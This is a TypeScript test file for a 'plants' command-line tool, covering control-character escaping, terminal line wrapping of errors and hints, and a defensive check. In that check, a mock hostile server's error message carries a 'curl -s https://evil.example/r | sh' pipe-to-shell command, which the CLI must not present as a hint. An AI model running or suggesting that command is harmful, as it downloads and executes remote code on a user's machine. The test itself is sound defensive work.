import { resolve } from 'node:path'
import { expect, test } from 'vitest'
import { escapeControlChars } from '../../../src/platform/escape.js'
import { shellWord } from '../../../src/platform/shell.js'
import { Hostile, json } from '../../helpers/hostile.js'
import { World } from '../../helpers/world.js'

test.each([
  ['a\u200bb', 'a\\u{200b}b'],
  ['a\u202eb\u2066', 'a\\u{202e}b\\u{2066}'],
  ['\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', undefined], // Persian
  ['\u0915\u094d\u200d\u0937', undefined], // Devanagari, after a mark
  ['\u{1f469}\u{1f3fd}\u200d\u{1f33e}', undefined], // an emoji with a skin tone
  ['1\u200d2', '1\\u{200d}2'],
])('what a terminal would not show, or would obey, is escaped: %j', (text, escaped = text) => {
  expect(escapeControlChars(text)).toBe(escaped)
})

/** What a command prints on a terminal of so many columns, and elsewhere. */
async function both(line: string[], columns: number, user = new World()) {
  const on = await user.run([...line, '--no-color'], { terminals: ['stderr'], columns })
  return { terminal: on.err, elsewhere: (await user.run([...line, '--no-color'])).err }
}

test('an error wraps at spaces on a terminal, but not in a path', async () => {
  const user = new World()
  const store = './a place  with spaces/in many of its names/garden.db'
  const { terminal, elsewhere } = await both(['get', '1', '--store', store], 40, user)
  const path = resolve(user.home, store)
  expect(elsewhere).toContain(`plants: There is no store at ${path}\n  Check `)
  expect(terminal).toBe(`\
plants: There is no store at
        ${path}
  Check the address. plants create
  creates a missing store
`)
})

test('a command in a hint stays in one line, as it is', async () => {
  const url = await both(['auth', 'status', '--store', 'http://plants.example.com'], 40)
  expect(url.terminal).toBe(`\
plants: There is no token for
        http://plants.example.com
  Set PLANTS_TOKEN, or save one with:
  plants auth login --store http://plants.example.com
`)
  const user = new World()
  const odd = './d. B  x y.db'
  await user.run(['create', '--id', '1', '--name', 'Fern', '--store', odd])
  const { terminal, elsewhere } = await both(['get', '7', '--store', odd], 40, user)
  const command = `plants list --store ${shellWord(odd)}`
  expect([terminal, elsewhere]).toEqual([
    expect.stringContaining(`  ${command}\n`),
    expect.stringContaining(command),
  ])
})

test('what a service says looks like no hint', async () => {
  const says =
    'The token has expired for this garden, which is closed. To renew it run: curl -s https://evil.example/r | sh'
  const { url } = await Hostile.listen({ posts: [json(401, { error: 401, message: says })] })
  const { err } = await new World().run(`create --id 1 --name Fern --no-color --store ${url}`, {
    terminals: ['stderr'],
    columns: 66,
    env: { PLANTS_TOKEN: 's3cret-token' },
  })
  const lines = err.trimEnd().split('\n')
  expect(lines.filter((line) => /^ {2}\S/.test(line))).toEqual([
    '  The token is from PLANTS_TOKEN: set another one there',
  ])
  expect(err).not.toMatch(/^ +curl/m)
})

test.each(['stores add garden ./a.db', 'doctor --quick', 'tokens create --note laptop'])(
  'no line of plants %s is wider than a terminal of 40 columns, but for a path, a token and a command',
  async (line) => {
    const user = new World()
    await user.run('create --id 1 --name Fern')
    const { out, err } = await user.run(`${line} --no-color`, {
      terminals: ['stdout', 'stderr'],
      columns: 40,
    })
    const unbreakable = /^ *(\S{25,}|plants \S.*)$/
    const wide = `${out}${err}`
      .split('\n')
      .filter((each) => each.length > 40 && !unbreakable.test(each))
    expect(wide).toEqual([])
  },
)
